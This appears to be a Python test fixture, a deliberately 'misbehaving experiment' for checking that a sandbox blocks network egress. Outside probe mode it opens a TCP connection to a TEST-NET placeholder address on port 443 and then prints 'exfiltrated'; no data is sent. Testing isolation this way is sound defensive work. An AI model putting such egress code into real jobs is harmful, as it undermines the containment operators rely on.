#!/usr/bin/env python3
"""Misbehaving experiment: attempts outbound network egress."""

import argparse
import socket
import sys


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", required=True)
    parser.add_argument("--course", default="-")
    parser.add_argument("--session", default="-")
    parser.add_argument("--label-type", default="-")
    args = parser.parse_args()
    if args.mode == "probe":
        return 0
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(3)
    sock.connect(("203.0.113.1", 443))  # TEST-NET address; must be blocked
    print("exfiltrated", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
